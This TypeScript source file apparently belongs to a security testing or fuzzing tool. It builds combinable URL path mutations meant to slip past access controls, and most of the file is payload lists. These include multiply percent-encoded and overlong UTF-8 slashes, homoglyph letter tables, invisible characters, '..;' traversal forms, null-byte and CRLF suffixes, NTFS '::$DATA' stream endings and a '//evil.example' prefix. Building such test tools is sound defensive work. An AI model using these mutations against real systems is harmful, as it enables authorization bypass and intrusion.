// Spellings of one path, as an attacker tries them: each a change at one place, to be combined.

/** Changes a path at the `at`-th of the places that it knows. */
export type Mutation = (path: string, at: number) => string

export function escapeAll(text: string, times = 1): string {
  const once = [...new TextEncoder().encode(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')
  return Array.from({ length: times - 1 }).reduce<string>((each) => each.replaceAll('%', '%25'), once)
}

const hex = (char: string, digits: number): string => (char.codePointAt(0) ?? 0).toString(16).padStart(digits, '0')
const isWord = (char: string): boolean => /^[A-Za-z0-9]$/.test(char)
const letter = (from: number) => (char: string) =>
  /^[a-z]$/i.test(char) ? String.fromCodePoint(from + (char.toLowerCase().charCodeAt(0) - 0x61)) : char
const twinOf = (twins: Readonly<Record<string, string>>) => (char: string) => twins[char.toLowerCase()] ?? char

const CYRILLIC = {
  a: 'а',
  b: 'Ь',
  c: 'с',
  e: 'е',
  i: 'і',
  k: 'к',
  n: 'п',
  o: 'о',
  p: 'р',
  r: 'г',
  s: 'ѕ',
  t: 'т',
  x: 'х',
  y: 'у',
}
const GREEK = { a: 'α', e: 'ε', i: 'ι', k: 'κ', n: 'η', o: 'ο', p: 'ρ', s: 'σ', t: 'τ', u: 'υ', v: 'ν', x: 'χ' }
const ODD_CASE = { k: '\u212a', i: '\u0131', s: '\u017f', e: '\u212f', o: '\u2134' }
const BEST_FIT = {
  a: 'ā',
  b: 'ƀ',
  c: 'ć',
  d: 'đ',
  e: 'ē',
  f: 'ƒ',
  g: 'ģ',
  h: 'ħ',
  i: 'ī',
  k: 'ķ',
  l: 'ł',
  n: 'ń',
  o: 'ō',
  r: 'ŕ',
  s: 'ś',
  t: 'ţ',
  u: 'ū',
  z: 'ź',
}

/** Another sign for one letter. */
const LETTERS: readonly ((char: string) => string)[] = [
  (char) => (char === char.toLowerCase() ? char.toUpperCase() : char.toLowerCase()),
  (char) => escapeAll(char),
  (char) => escapeAll(char, 2),
  (char) => escapeAll(char, 3),
  (char) => escapeAll(char, 7),
  (char) => escapeAll(escapeAll(char)),
  (char) => `%u${hex(char, 4)}`,
  (char) => `%25u${hex(char, 4)}`,
  (char) => `%2525u${hex(char, 4)}`,
  (char) => `%c1%${(0x80 + ((char.codePointAt(0) ?? 0) & 0x3f)).toString(16)}`,
  (char) => `%25c1%25${(0x80 + ((char.codePointAt(0) ?? 0) & 0x3f)).toString(16)}`,
  ...[1, 2].flatMap((times) => [
    (char: string) => escapeAll(String.fromCodePoint((char.codePointAt(0) ?? 0) + 0xfee0), times),
    (char: string) => escapeAll(letter(0x24d0)(char), times),
    (char: string) => escapeAll(letter(0x1d4ea)(char), times),
    (char: string) => escapeAll(letter(0x1d68a)(char), times),
    ...[CYRILLIC, GREEK, ODD_CASE, BEST_FIT].map((twins) => (char: string) => escapeAll(twinOf(twins)(char), times)),
  ]),
  (char) => `${char}${escapeAll('\u0301')}`,
  ...['\u00ad', '\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\ufe0f', '\u200f', '\u{e0061}'].map(
    (unseen) => (char: string) => `${char}${escapeAll(unseen)}`,
  ),
  (char) => `${char}%00`,
  (char) => `${char}%250a`,
]

/** In place of a slash. */
const SLASHES = [
  ...['//', '///', '/./', '/x/../', '%2f', '%2F', '%252f', '%25252F', '%5c', '%255c', '\\', '%c0%af', '%25c0%25af'],
  ...['%ef%bc%8f', '%25ef%25bc%258f', '%e2%81%84', '%e2%88%95', '%ef%bc%bc', '%u2215', '%25u2215', '%252f%252f'],
  ...['/%2e/', '/%252e/', '/;x/', '/;/', '/.;/', '/%20/', '/%3b/', '/x/..;/', '/x/..;a=b/', '/x/%252e%252e/'],
  ...[
    '/x%252f../',
    '/(S(x))/',
    '/(A(y)F(z))/',
    '/x/..(S(x))/',
    '/.(S(x))/',
    '/x/..%20/',
    '/x../',
    '/x/%e2%80%a5/',
    '/%c2%a0/',
    '/index.php/',
    '/+/',
  ],
]

/** At the end of a segment. */
const ENDS = [
  ...[
    '.json',
    '.xml',
    '.html',
    '.JSON',
    '.css',
    '.js',
    '.php',
    '.aspx',
    '.do',
    '.action',
    '.tidy.json',
    '.tar.gz',
    '.x',
  ],
  ...['.json;x', ';x.css', ';jsessionid=1', ';', ';a=b;c', '%3b', '%3Bx', '%253bx', ';x=%252f', '.json%20', '.json.'],
  ...[
    '.',
    '..',
    '...',
    '%20',
    '%20%20',
    '%2520',
    '+',
    '.%20',
    '%20.',
    '%c2%a0',
    '%e3%80%80',
    '%ef%bb%bf',
    '%09',
    '%2509',
  ],
  ...['%00', '%00.json', '%2500', '%2500.png', '%0a', '%0d%0a', '%250d%250a', '%e2%80%a8', '%25e2%2580%25a8'],
  ...['%3f', '%3Fx', '%253fx', '%23', '%23x', '%2523', '&', '&x=1', '%26x', '%2526x', '#x', '?x', '%'],
  ...[
    '::$DATA',
    ':$i30:$INDEX_ALLOCATION',
    '%3a%3a$DATA',
    '(S(x))',
    '%28S%28x%29%29',
    '.php/x.css',
    '.json/x.css',
    '.json/',
  ],
  ...[
    '%2ejson',
    '%252ejson',
    '%25252ejson',
    '%ef%bc%8ejson',
    '%e3%80%82json',
    '%2e',
    '%252e',
    '%ef%bc%9bx',
    '%ef%bc%9f',
  ],
  ...[
    '/',
    '/.',
    '/..',
    '/%2e',
    '/%252e',
    '/;',
    '/;x',
    '/.;',
    '/%20',
    '/x/..;',
    '/x/..',
    '/index.html',
    '/index',
    '/index.php',
  ],
  ...[
    '/default.aspx',
    '/INDEX.html',
    '%252f',
    '%255c',
    '%ef%bc%8f',
    '/x%252f..',
    '/...',
    '/..;/..;',
    '%2f',
    '/%252e%252e/x',
  ],
]

/** At the begin of a segment. */
const BEGINS = [
  '%20',
  '+',
  '%ef%bb%bf',
  '%c2%a0',
  ';x/',
  '%e2%80%8b',
  '(S(x))',
  '%2e/',
  './',
  '%252e/',
  '%09',
  '%2520',
  '/',
]

/** Before the whole path. */
const FRONTS = [
  ...[
    '/open/..;',
    '/open/%252e%252e',
    '/open%252f..',
    '/open/..%20',
    '/open..',
    '/open/..%255c',
    '/open/..',
    '/open/%2e%2e',
  ],
  ...[
    '/;a',
    '/;',
    '/%20',
    '/.;',
    '/.',
    '/(S(x))',
    '/index.php',
    '/(X(1)F(2))',
    '/x/..;/..;',
    '/x/%2e%2e;',
    '/%E3%80%80',
  ],
  ...[
    '//evil.example',
    '/http:/x/..;',
    '/open/%25%32%65%25%32%65',
    '/a/b/..;/..;',
    '/open/%e2%80%a5',
    '\\',
    '/%5c',
    '/%255c',
  ],
]

const slashesOf = (path: string): number[] => [...path.matchAll(/\//g)].map(({ index }) => index)
/** Where segments end: before each slash but the first, and at the end. */
const endsOf = (path: string): number[] => [...slashesOf(path).slice(1), path.length]
const lettersOf = (path: string): number[] => [...path].flatMap((char, index) => (isWord(char) ? [index] : []))
const pick = (places: readonly number[], at: number): number => places[at % Math.max(1, places.length)] ?? 0
const put = (path: string, from: number, to: number, text: string) => path.slice(0, from) + text + path.slice(to)

export const MUTATIONS: readonly { readonly change: Mutation; readonly places: (path: string) => number }[] = [
  ...LETTERS.map((sign) => ({
    change: (path: string, at: number) => {
      const place = pick(lettersOf(path), at)
      return put(path, place, place + 1, sign(path[place] ?? ''))
    },
    places: (path: string) => lettersOf(path).length,
  })),
  ...SLASHES.map((slash) => ({
    change: (path: string, at: number) => {
      const place = pick(slashesOf(path), at)
      return put(path, place, place + 1, slash)
    },
    places: (path: string) => slashesOf(path).length,
  })),
  ...ENDS.map((end) => ({
    change: (path: string, at: number) => {
      const place = pick(endsOf(path), at)
      return put(path, place, place, end)
    },
    places: (path: string) => endsOf(path).length,
  })),
  ...BEGINS.map((begin) => ({
    change: (path: string, at: number) => {
      const place = pick(slashesOf(path), at) + 1
      return put(path, place, place, begin)
    },
    places: (path: string) => slashesOf(path).length,
  })),
  ...FRONTS.map((front) => ({ change: (path: string) => `${front}${path}`, places: () => 1 })),
  ...[
    (path: string) => path.toUpperCase(),
    (path: string) => path.toLowerCase(),
    (path: string) => path.replaceAll(/[a-z]/gi, (char) => escapeAll(char, 2)),
    (path: string) =>
      path.replaceAll(/[a-z]/gi, (char) => escapeAll(String.fromCodePoint(char.charCodeAt(0) + 0xfee0))),
    (path: string) => path.replaceAll('/', '%252f').replace('%252f', '/'),
    (path: string) => path.replaceAll(/\/[^/]*/g, (segment) => `${segment};a=b`),
    (path: string) => path.replaceAll('/', '/;a=b/'),
    (path: string) =>
      path.replaceAll(/(?:%[89a-f][0-9a-f])+/gi, (run) =>
        escapeAll(Buffer.from(run.replaceAll('%', ''), 'hex').toString().normalize('NFKD')),
      ),
  ].map((change) => ({ change: (path: string) => change(path), places: () => 1 })),
]
